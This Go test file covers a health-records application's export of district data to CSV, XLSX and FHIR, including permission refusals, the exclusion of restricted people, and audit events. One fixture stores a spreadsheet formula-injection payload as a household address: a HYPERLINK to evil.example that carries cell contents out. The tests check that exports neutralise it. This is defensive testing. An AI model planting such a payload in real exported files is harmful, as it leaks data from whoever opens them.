package store_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"termtem/internal/account"
	"termtem/internal/audit"
	"termtem/internal/errs"
	"termtem/internal/exports"
	"termtem/internal/fhir"
	"termtem/internal/imports"
	"termtem/internal/people"
	"termtem/internal/store"
	"termtem/internal/store/storetest"
)

type exportWorld struct {
	db                         *store.DB
	officer, supervisor, nurse account.User
	district                   string // Lat Krabang's place ID
	child, formula, hidden     people.Person
	far                        people.Person
}

func newExportWorld(t *testing.T) exportWorld {
	t.Helper()
	db := storetest.Open(t)
	org := newOrg(t, db, "EXP-1") // in Lat Krabang
	w := exportWorld{db: db, district: mustPlaceByCode(t, db, "1011").ID}
	w.officer = newUser(t, db, "officer", account.Membership{OrganisationID: org.ID, RoleCode: account.RoleDataOfficer})
	w.supervisor = newUser(t, db, "boss", account.Membership{OrganisationID: org.ID, RoleCode: account.RoleSupervisor})
	w.nurse = newUser(t, db, "nurse", account.Membership{OrganisationID: org.ID, RoleCode: account.RoleHealthStaff})
	w.child = childIn(t, db, "1011", "E1", "ขวัญใจ")
	w.far = childIn(t, db, "1001", "E2", "ไกลบ้าน")
	// A household whose address was typed as a formula, and a child in it.
	h, err := db.SaveHousehold(ctx, people.Household{CommunityID: w.child.CommunityID,
		Address: `=HYPERLINK("http://evil.example/?d="&A1,"คลิก")`}, actor())
	if err != nil {
		t.Fatal(err)
	}
	if w.formula, err = db.CreatePerson(ctx, people.Person{GivenName: "@เมฆ", FamilyName: "-ฟ้า", BirthDate: "2019-03-03", HouseholdID: h.ID,
		Relation: people.RelChild}, actor()); err != nil {
		t.Fatal(err)
	}
	if w.hidden, err = db.CreatePerson(ctx, people.Person{GivenName: "ซ่อน", FamilyName: "ไว้", BirthDate: "2018-03-03", HouseholdID: h.ID,
		Relation: people.RelChild}, actor()); err != nil {
		t.Fatal(err)
	}
	if err := db.SetRestricted(ctx, w.hidden.ID, w.hidden.Version, true, "ผู้ปกครองคัดค้านการเปิดเผยข้อมูล", actor()); err != nil {
		t.Fatal(err)
	}
	managed := true
	if _, err := db.AddRecord(ctx, people.Record{PersonID: w.child.ID, Kind: people.Condition, OccurredOn: "2024-01-05", OrganisationID: org.ID,
		Data: people.RecordData{Condition: "chronic_illness", Note: "หอบหืด", Managed: &managed}}, actor()); err != nil {
		t.Fatal(err)
	}
	if _, err := db.AddRecord(ctx, people.Record{PersonID: w.child.ID, Kind: people.Vaccination, OccurredOn: "2020-02-03", OrganisationID: org.ID,
		Data: people.RecordData{Vaccine: "BCG", Dose: 1}}, actor()); err != nil {
		t.Fatal(err)
	}
	return w
}

// exportCSV runs an export into CSV and returns its records.
func exportCSV(t *testing.T, w exportWorld, u account.User, req exports.Request) ([][]string, int, error) {
	t.Helper()
	var buf bytes.Buffer
	cw, err := exports.NewCSV(&buf)
	if err != nil {
		t.Fatal(err)
	}
	req.Format = exports.CSV
	if err := cw.Write(req.Fields); err != nil {
		t.Fatal(err)
	}
	var cells []string
	n, err := w.db.Export(as(t, w.db, u), req, "", by(u), func(r *exports.Row) error {
		cells = exports.Cells(r, req.Fields, w.db.Now(), cells)
		return cw.Write(cells)
	})
	if err != nil {
		return nil, n, err
	}
	if err := cw.Close(); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF")) {
		t.Fatal("no byte-order mark")
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs, n, nil
}

func TestExportDistrictCSV(t *testing.T) {
	w := newExportWorld(t)
	fields := []string{"person_id", "given_name", "family_name", "address", "vaccinations"}
	recs, n, err := exportCSV(t, w, w.officer, exports.Request{AreaID: w.district, Fields: fields, Lang: "th"})
	if err != nil {
		t.Fatal(err)
	}
	// The child and the formula child; not the restricted one, not the far one.
	if n != 2 || len(recs) != 3 {
		t.Fatalf("exported %d, rows %v", n, recs)
	}
	byID := map[string][]string{}
	for _, r := range recs[1:] {
		byID[r[0]] = r
	}
	if _, ok := byID[w.hidden.ID]; ok {
		t.Fatal("a restricted person was exported")
	}
	f := byID[w.formula.ID]
	if f == nil || f[1] != "'@เมฆ" || f[2] != "'-ฟ้า" || !strings.HasPrefix(f[3], `'=HYPERLINK(`) {
		t.Fatalf("formula cells not neutralised: %q", f)
	}
	if c := byID[w.child.ID]; c == nil || c[4] != "BCG1" {
		t.Fatalf("child row: %q", c)
	}
	// One export event with the count, a read event per person, same actor.
	evs, err := w.db.RecentAudit(ctx, store.ActionExport, 10)
	if err != nil || len(evs) != 1 || evs[0].ActorID != w.officer.ID || !strings.Contains(evs[0].Detail, "people=2") || evs[0].ObjectID != w.district {
		t.Fatalf("export audit: %+v %v", evs, err)
	}
	for _, p := range []people.Person{w.child, w.formula} {
		reads, _ := w.db.RecentAudit(ctx, store.ActionPersonRead, 100)
		found := false
		for _, e := range reads {
			found = found || (e.ObjectID == p.ID && e.Detail == "export" && e.ActorID == w.officer.ID)
		}
		if !found {
			t.Fatalf("no read audit for %s", p.ID)
		}
	}
}

func TestExportRefusals(t *testing.T) {
	w := newExportWorld(t)
	// A field of a sensitive category the data officer is not granted.
	_, _, err := exportCSV(t, w, w.officer, exports.Request{AreaID: w.district, Fields: []string{"given_name", "conditions"}})
	wantErr(t, err, errs.Invalid, "fields", "exports.field_not_allowed")
	// A role without the export permission.
	_, _, err = exportCSV(t, w, w.nurse, exports.Request{AreaID: w.district, Fields: []string{"given_name"}})
	wantErr(t, err, errs.Forbidden, "", "error.forbidden")
	if n := auditCount(t, w.db, audit.AccessDenied, w.district); n != 1 {
		t.Fatalf("denials audited: %d", n)
	}
	// A district the officer's organisation does not serve.
	far := mustPlaceByCode(t, w.db, "1001")
	_, _, err = exportCSV(t, w, w.officer, exports.Request{AreaID: far.ID, Fields: []string{"given_name"}})
	wantErr(t, err, errs.Invalid, "area_id", "exports.area_out_of_scope")
	// Bad input: no fields, an unknown field, a field twice, an unknown area.
	_, _, err = exportCSV(t, w, w.officer, exports.Request{AreaID: w.district})
	wantErr(t, err, errs.Invalid, "fields", "exports.fields_required")
	_, _, err = exportCSV(t, w, w.officer, exports.Request{AreaID: w.district, Fields: []string{"password"}})
	wantErr(t, err, errs.Invalid, "fields", "field.choice")
	_, _, err = exportCSV(t, w, w.officer, exports.Request{AreaID: w.district, Fields: []string{"sex", "sex"}})
	wantErr(t, err, errs.Invalid, "fields", "exports.field_twice")
	_, _, err = exportCSV(t, w, w.officer, exports.Request{AreaID: "no-such-place", Fields: []string{"sex"}})
	wantErr(t, err, errs.Invalid, "area_id", "exports.area_unknown")
	if evs, _ := w.db.RecentAudit(ctx, store.ActionExport, 10); len(evs) != 0 {
		t.Fatalf("refused exports were recorded as done: %+v", evs)
	}
}

func TestExportSensitiveFieldForSupervisor(t *testing.T) {
	w := newExportWorld(t)
	recs, _, err := exportCSV(t, w, w.supervisor, exports.Request{AreaID: w.district, Fields: []string{"person_id", "conditions"}, ChildrenOnly: true})
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, r := range recs[1:] {
		got[r[0]] = r[1]
	}
	if got[w.child.ID] != "chronic_illness: หอบหืด" {
		t.Fatalf("conditions: %v", got)
	}
}

func TestExportXLSXNeutralisesFormulas(t *testing.T) {
	w := newExportWorld(t)
	var buf bytes.Buffer
	xw, err := exports.NewXLSX(&buf, "people")
	if err != nil {
		t.Fatal(err)
	}
	fields := []string{"person_id", "address"}
	req := exports.Request{AreaID: w.district, Format: exports.XLSX, Fields: fields}
	var cells []string
	if _, err := w.db.Export(as(t, w.db, w.officer), req, "", by(w.officer), func(r *exports.Row) error {
		cells = exports.Cells(r, fields, w.db.Now(), cells)
		return xw.Write(cells)
	}); err != nil {
		t.Fatal(err)
	}
	if err := xw.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("people")
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for i, r := range rows {
		if len(r) > 1 && r[0] == w.formula.ID {
			found = strings.HasPrefix(r[1], `'=HYPERLINK(`)
			if formula, _ := f.GetCellFormula("people", "B"+string(rune('1'+i))); formula != "" {
				t.Fatalf("a cell holds a formula: %q", formula)
			}
		}
	}
	if !found {
		t.Fatalf("formula address not neutralised: %v", rows)
	}
}

// A FHIR export of the district imports back into an empty database as the
// same people and records.
func TestExportFHIRRoundTrip(t *testing.T) {
	w := newExportWorld(t)
	var buf bytes.Buffer
	bw := fhir.NewBundleWriter(&buf, "test", "")
	n, err := w.db.Export(as(t, w.db, w.supervisor), exports.Request{AreaID: w.district, Format: exports.FHIR}, "", by(w.supervisor),
		func(r *exports.Row) error { return exports.WriteFHIR(bw, r) })
	if err != nil || n != 2 {
		t.Fatalf("export: %d %v", n, err)
	}
	if err := bw.Close(); err != nil {
		t.Fatal(err)
	}
	// Patients and the vaccination; the condition is not a FHIR resource Termtem writes.
	if bw.Entries() != 3 {
		t.Fatalf("entries: %d\n%s", bw.Entries(), buf.String())
	}
	other := storetest.Open(t)
	hc := newOrg(t, other, "EXP-2")
	j := mustImport(t, other, hc.ID, "termtem", imports.FHIR, writeFile(t, "export.json", buf.String()), imports.Mapping{})
	if j.Counts.Created != 2 || j.Counts.Records != 1 || j.Counts.Rejected != 0 {
		t.Fatalf("re-import: %+v", j.Counts)
	}
	// One person's bundle.
	buf.Reset()
	bw = fhir.NewBundleWriter(&buf, "one", "")
	if n, err := w.db.Export(as(t, w.db, w.officer), exports.Request{Format: exports.FHIR}, w.child.ID, by(w.officer),
		func(r *exports.Row) error { return exports.WriteFHIR(bw, r) }); err != nil || n != 1 {
		t.Fatalf("person export: %d %v", n, err)
	}
	bw.Close()
	if !strings.Contains(buf.String(), `"resourceType":"Immunization"`) || strings.Contains(buf.String(), w.formula.ID) {
		t.Fatalf("person bundle: %s", buf.String())
	}
	// Someone the officer may not open is not exported.
	_, err = w.db.Export(as(t, w.db, w.officer), exports.Request{Format: exports.FHIR}, w.far.ID, by(w.officer), func(*exports.Row) error { return nil })
	wantErr(t, err, errs.NotFound, "", "person.not_found")
}
